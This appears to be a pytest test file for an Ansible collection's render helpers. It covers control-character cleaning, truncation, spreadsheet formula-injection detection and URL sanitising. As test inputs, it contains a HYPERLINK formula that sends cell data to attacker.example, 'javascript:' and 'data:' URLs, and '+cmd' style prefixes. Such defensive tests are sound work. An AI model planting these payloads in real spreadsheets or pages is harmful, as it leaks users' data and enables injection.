# -*- coding: utf-8 -*-
# Copyright (c) 2026 prisma_sase.mt_monitor contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)

from __future__ import annotations

import math

import pytest

from ansible_collections.prisma_sase.mt_monitor.plugins.plugin_utils._render_common import (
    CELL_LIMIT,
    STATUS_COLOURS,
    STATUS_ORDER,
    STATUSES,
    RenderStats,
    clean_structure,
    clean_text,
    is_formula_like,
    safe_url,
    status_order,
)


def test_clean_text_replaces_controls() -> None:
    cleaned = clean_text("Acme\x0bCorp and a bell \x07\x00")
    assert cleaned.text == "Acme\ufffdCorp and a bell \ufffd\ufffd"
    assert cleaned.controls_replaced == 3
    assert cleaned.truncated == 0


def test_clean_text_keeps_tab_and_newline() -> None:
    cleaned = clean_text("a\tb\nc")
    assert cleaned.text == "a\tb\nc"
    assert cleaned.controls_replaced == 0


def test_clean_text_truncates_with_marker() -> None:
    cleaned = clean_text("x" * 100_000)
    assert len(cleaned.text) == CELL_LIMIT
    assert cleaned.text.endswith(f"… [truncated {cleaned.truncated} characters]")
    marker_position = cleaned.text.index("…")
    assert marker_position + cleaned.truncated == 100_000


def test_clean_text_short_limit() -> None:
    cleaned = clean_text("abcdefghij" * 10, limit=40)
    assert len(cleaned.text) <= 40
    assert cleaned.truncated == 100 - cleaned.text.index("…")


def test_clean_text_non_strings() -> None:
    assert clean_text(None).text == ""
    assert clean_text(12).text == "12"


def test_render_stats_counts() -> None:
    stats = RenderStats()
    stats.record(clean_text("a\x07b"), "cell A1")
    stats.record(clean_text("y" * 50, limit=40), "cell A2")
    assert stats.controls_replaced == 1
    assert stats.values_with_controls == 1
    assert stats.truncated_values == 1
    assert stats.truncated_examples == ["cell A2"]
    assert stats.as_dict()["truncated_characters"] == stats.truncated_characters


def test_clean_structure_keeps_types() -> None:
    stats = RenderStats()
    cleaned = clean_structure({"k\x01": [1, 2.5, True, None, "v\x02", math.nan]}, stats)
    assert cleaned == {"k\ufffd": [1, 2.5, True, None, "v\ufffd", None]}
    assert stats.controls_replaced == 2


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://attacker.example/?d="&B2,"x")', "@SUM(1+1)", "+cmd", "-cmd", "\tx", "\rx",
     "-", "+", "-nan", "-inf"],
)
def test_formula_like_detected(text: str) -> None:
    assert is_formula_like(text)


@pytest.mark.parametrize("text", ["-5", "+1.5e3", "-0.25", "Acme", "", "a=b", " =x"])
def test_formula_like_not_detected(text: str) -> None:
    assert not is_formula_like(text)


@pytest.mark.parametrize(
    "url, expected",
    [
        ("https://example.com/a?b=1", "https://example.com/a?b=1"),
        ("http://127.0.0.1:8080/", "http://127.0.0.1:8080/"),
        ("javascript:alert(1)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("data:text/html,x", None),
        ("//example.com", None),
        ("https://", None),
        ("https://exa mple.com", None),
        ("https://example.com/\x00", None),
        (None, None),
    ],
)
def test_safe_url(url: object, expected: str | None) -> None:
    assert safe_url(url) == expected


def test_status_order_and_colours() -> None:
    assert sorted(STATUSES, key=status_order) == list(STATUS_ORDER)
    assert status_order("unknown") == len(STATUS_ORDER)
    assert set(STATUS_COLOURS) == set(STATUSES)
